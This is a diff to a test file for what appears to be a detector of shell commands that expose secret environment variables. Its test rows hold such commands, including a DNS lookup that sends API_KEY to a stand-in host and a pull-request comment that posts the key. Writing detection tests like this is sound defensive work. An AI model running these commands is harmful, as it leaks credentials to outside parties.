@@ -51,6 +51,8 @@ describe('a variable', () => {
     ['for v in "${!AWS_@}"; do echo "${!v}"; done', 'all'],
     ['declare -n r=API_KEY; echo $r', 'API_KEY'],
     ['cat <<< "$API_KEY"', 'API_KEY'],
+    ['dig "$API_KEY.x.test"', 'API_KEY'],
+    ['gh pr comment 1 --body "$API_KEY"', 'API_KEY'],
     ['cat <<E\n$API_KEY\nE', 'API_KEY'],
   ])('is shown by %s', async (command, name) => {
     expect(await told(command)).toContain(`reveal-environment environment:${name}`);
